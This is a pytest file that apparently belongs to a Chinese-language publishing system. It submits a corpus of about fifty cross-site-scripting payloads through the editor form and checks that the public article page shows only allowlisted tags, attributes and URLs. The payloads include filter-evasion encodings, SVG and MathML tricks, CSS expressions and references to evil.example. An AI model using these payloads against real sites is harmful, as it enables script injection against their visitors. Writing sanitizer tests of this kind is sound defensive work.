"""Hostile HTML through the editor's form, checked where readers meet it: the public page.

The table is our own corpus (script tags, event handlers, script URLs hidden by case, entities
and whitespace, SVG/MathML tricks, unclosed tags, CSS expressions and url()). Whatever the
sanitizer does inside, the article page must show only allowlisted tags and attributes, only
http/https/mailto/relative URLs, no inline style, and none of the attack's code as text.
The allowlist below is written from the issue, not imported from sanitize.py, so the test
checks the policy rather than repeating it.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from support import article_body, edit_url, post_id_of, write_post

SAFE_PARAGRAPH = "<p>安全段落</p>"  # keeps every body non-empty after cleaning

ALLOWED_TAGS = set(
    [
        "p",
        "br",
        "strong",
        "b",
        "em",
        "i",
        "u",
        "s",
        "sub",
        "sup",
        "h2",
        "h3",
        "h4",
        "blockquote",
        "ul",
        "ol",
        "li",
        "table",
        "caption",
        "thead",
        "tbody",
        "tfoot",
        "tr",
        "th",
        "td",
        "a",
        "img",
        "hr",
        "span",
        "div",
    ]
)
CLASS_TAGS = {"p", "div", "span", "h2", "h3", "h4", "td", "th"}
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "width", "height"},
    "td": {"colspan", "rowspan", "class"},
    "th": {"colspan", "rowspan", "class"},
    **{tag: {"class"} for tag in ("p", "div", "span", "h2", "h3", "h4")},
}
STYLE_CLASSES = {"text-center", "text-right", "indent-2em"}

# (id, hostile body, text that must still be on the page or None)
CORPUS = [
    ("script", "<script>alert(1)</script>", None),
    ("script-upper-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", None),
    ("script-in-paragraph", "<p>前<script>alert(1)</script>后</p>", "前后"),
    ("img-onerror", "<img src=x onerror=alert(1)>", None),
    ("img-onerror-mixed-case", '<img src="a.png" OnErRoR="alert(1)" alt="图">', None),
    ("body-onload", "<body onload=alert(1)><p>身体</p>", "身体"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>摘要</summary></details>", None),
    ("td-onmouseover", "<table><tr><td onmouseover=alert(1)>格</td></tr></table>", "格"),
    ("href-javascript", '<a href="javascript:alert(1)">链接一</a>', "链接一"),
    ("href-mixed-case", '<a href="JaVaScRiPt:alert(1)">链接二</a>', "链接二"),
    ("href-leading-space", '<a href="  javascript:alert(1)">链接三</a>', "链接三"),
    ("href-tab-inside", '<a href="java\tscript:alert(1)">链接四</a>', "链接四"),
    ("href-newline-entity", '<a href="jav&#x0A;ascript:alert(1)">链接五</a>', "链接五"),
    ("href-tab-entity", '<a href="java&#9;script:alert(1)">链接六</a>', "链接六"),
    (
        "href-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">七</a>',
        "七",
    ),
    ("href-hex-entities-colon", '<a href="&#x6A;avascript&colon;alert(1)">链接八</a>', "链接八"),
    ("href-zero-padded", '<a href="&#0000106avascript:alert(1)">链接九</a>', "链接九"),
    ("href-nul", '<a href="java\x00script:alert(1)">链接十</a>', "链接十"),
    ("href-vbscript", '<a href="VBScript:msgbox(1)">链接十一</a>', "链接十一"),
    (
        "href-data-html",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">数据</a>',
        "数据",
    ),
    ("img-data-svg", '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;" alt="x">', None),
    ("img-javascript", '<img src="javascript:alert(1)">', None),
    ("svg-onload", "<svg onload=alert(1)><circle r=1 /></svg>", None),
    (
        "svg-script",
        "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>s</a></svg>",
        None,
    ),
    (
        "svg-foreignobject",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        None,
    ),
    ("math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>', None),
    (
        "math-mxss",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        None,
    ),
    ("iframe", '<iframe src="https://evil.example/"></iframe>', None),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', None),
    ("object-embed", '<object data="x.swf"></object><embed src="x.swf">', None),
    (
        "form-controls",
        '<form action="https://evil.example"><input name=a><button>提交按钮</button></form>',
        None,
    ),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', None),
    ("base-href", '<base href="https://evil.example/">', None),
    ("template", "<template><script>alert(1)</script></template>", None),
    (
        "noscript-breakout",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        None,
    ),
    ("xmp", "<xmp><script>alert(1)</script></xmp>", None),
    ("style-element", "<style>body{background:url(javascript:alert(1))}</style>", None),
    ("css-url-javascript", '<p style="background:url(javascript:alert(1))">背景一</p>', "背景一"),
    ("css-expression", '<p style="width:expression(alert(1))">表达式</p>', "表达式"),
    (
        "css-url-remote",
        "<div style=\"background-image:url('https://evil.example/t.png')\">背景二</div>",
        "背景二",
    ),
    (
        "css-import-escape",
        '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">行为</p>',
        "行为",
    ),
    ("css-entity-escape", '<p style="background:&#117;rl(javascript:alert(1))">实体</p>', "实体"),
    ("unclosed-tags", "<p><b>未闭合<i>斜体<script>alert(1)", "未闭合斜体"),
    ("unclosed-attribute", "<p>结尾</p><img src=x onerror=alert(1)//", "结尾"),
    ("nested-script-split", "<<script>script>alert(1)<</script>/script>", None),
    ("comment-script", "<!--<script>alert(1)</script>--><p>注释后</p>", "注释后"),
    ("conditional-comment", "<!--[if IE]><script>alert(1)</script><![endif]--><p>条件</p>", "条件"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]><p>字符数据</p>", "alert(1)]]>字符数据"),
    (
        "title-attribute-breakout",
        '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">属性</p>',
        "属性",
    ),
    (
        "external-link-target",
        '<a href="https://evil.example/" target="_blank" rel="opener">外链</a>',
        "外链",
    ),
    ("isindex", "<isindex action=javascript:alert(1) type=image>", None),
    ("class-injection", '<p class="text-center evil-class" id="x" name="y">类名</p>', "类名"),
]


@pytest.fixture
def publish(editor_client, make_channel):
    """Publish a body through the form; returns the article's public path."""
    channel = make_channel("notices", name="通知公告")

    def post(body: str):
        return write_post(editor_client, channel, title="恶意内容测试", body=body + SAFE_PARAGRAPH)

    def send(body: str) -> str:
        response = post(body)
        if response.status_code == 400 and "图片缺少替代文字" in response.get_data(as_text=True):
            # An image with no alt is refused before anything else; an editor would add the
            # text and submit again, hostile attributes and all.
            response = post(re.sub(r"<img\b", '<img alt="图"', body, flags=re.IGNORECASE))
        return f"/notices/{post_id_of(edit_url(response))}.html"

    return send


class BodyAudit(HTMLParser):
    """Every tag, attribute and URL in the article body, and its visible text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self.links: list[dict] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        allowed = ALLOWED_ATTRIBUTES.get(tag, set())
        for name, value in attrs:
            value = value or ""
            if name not in allowed or name.startswith("on") or name == "style":
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in ("href", "src") and not url_is_safe(value):
                self.problems.append(f"url {value!r}")
            if name == "class" and (
                tag not in CLASS_TAGS or not set(value.split()) <= STYLE_CLASSES
            ):
                self.problems.append(f"class {value!r}")
        if tag == "a":
            self.links.append(dict(attrs))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, _data):
        self.problems.append("comment")


def url_is_safe(value: str) -> bool:
    # As a browser reads it (HTMLParser has already decoded the entities, exactly once):
    # control characters and spaces ignored, scheme case-insensitive.
    url = re.sub(r"[\x00-\x20\x7f]+", "", value).lower()
    scheme = re.match(r"([a-z][a-z0-9+.\-]*):", url)
    return scheme is None or scheme.group(1) in ("http", "https", "mailto")


# A browser parses "<![CDATA[<script>" in HTML as a bogus comment ending at the first ">", so
# "alert(1)]]>" after it is plain text in any browser: inert, shown escaped, and allowed here.
INERT_TEXT = {"cdata"}
# An unclosed <script> swallows everything after it, our safe paragraph included.
SWALLOWS_THE_REST = {"unclosed-tags"}


@pytest.mark.parametrize(("case", "hostile", "kept_text"), CORPUS, ids=[c[0] for c in CORPUS])
def test_hostile_html_never_reaches_the_public_page(
    editor_client, publish, case, hostile, kept_text
):
    response = editor_client.get(publish(hostile))
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    body = article_body(response)
    audit = BodyAudit()
    audit.feed(body)
    audit.close()
    assert audit.problems == []
    text = "".join(audit.text)
    # Code may survive only inside a URL the audit found inert (e.g. "javascript&colon;…" with
    # its "&" escaped is a relative path to a browser), never as text or as anything else.
    for code in ("alert(", "msgbox(", "expression(", "url(", "evil.example/x.js"):
        if case not in INERT_TEXT:
            assert code not in text, f"{code!r} shown as text"
    if case not in SWALLOWS_THE_REST:
        assert "安全段落" in text
    if kept_text is not None:
        assert kept_text in text.replace(" ", "")
    assert "<script" not in page.split('<div class="article-body">')[1].split("</article>")[0]


def test_external_links_get_noopener_and_site_links_do_not(editor_client, publish):
    body = (
        '<a href="https://evil.example/">外链</a>'
        '<a href="http://localhost/notices/">本站绝对</a><a href="/notices/">本站相对</a>'
    )
    audit = BodyAudit()
    audit.feed(article_body(editor_client.get(publish(body))))
    rels = {link["href"]: link.get("rel") for link in audit.links}
    assert rels == {
        "https://evil.example/": "noopener noreferrer",
        "http://localhost/notices/": None,
        "/notices/": None,
    }


def test_chinese_text_punctuation_and_entities_survive_unchanged(editor_client, publish):
    body = "<p>第一条　为了规范行政执法行为，根据《中华人民共和国宪法》……制定本办法；“依法行政”！&amp; &lt;注&gt; &copy;</p>"
    shown = article_body(editor_client.get(publish(body)))
    assert body in shown
